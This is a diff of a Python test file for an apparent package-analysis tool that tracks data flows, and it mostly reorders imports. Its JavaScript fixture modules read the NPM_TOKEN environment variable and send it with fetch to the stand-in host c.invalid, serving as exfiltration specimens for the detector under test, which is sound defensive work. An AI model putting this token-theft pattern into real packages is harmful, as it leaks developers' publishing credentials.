@@ -2,20 +2,17 @@
 
 import random
 
-import msgspec
 import pytest
 
-from lazaretto.app.reporting import report_update
 from lazaretto.core.crossing import crossed
-from lazaretto.core.facts import Facts, Reach
+from lazaretto.core.facts import Facts, Kind, Reach
 from lazaretto.core.policy import Outcome
-from lazaretto.core.reach import Loader
 from lazaretto.core.question import chains
-from lazaretto.core.facts import Kind
+from lazaretto.core.reach import Loader
 from tests.evasion import flows
 from tests.evasion.cases import cases
 from tests.evasion.specimen import Specimen, ask, refused, told
-from tests.examples import read_facts, rules, NOW
+from tests.examples import read_facts
 
 
 @pytest.mark.parametrize("specimen", cases(flows.SPECIMENS))
@@ -39,7 +36,7 @@ def test_what_only_stands_in_the_same_package_is_no_flow(specimen: Specimen) -> 
 _FILES = {
     "a.js": "exports.token = () => process.env.NPM_TOKEN;\nexports.out = (x) => require('./b').send(x);\n",
     "b.js": "exports.send = (d) => fetch('https://c.invalid/', { body: d });\nexports.back = require('./c');\n",
-    "c.js": "const a = require('./a'), b = require('./b');\na.out(a.token());\nb.send(a.token());\nmodule.exports = a;\n",
+    "c.js": "const a = require('./a');\na.out(a.token());\nrequire('./b').send(a.token());\nmodule.exports = a;\n",
     "d.js": "module.exports = require('./c');\nmodule.exports.more = require('./d');\n",
 }
 
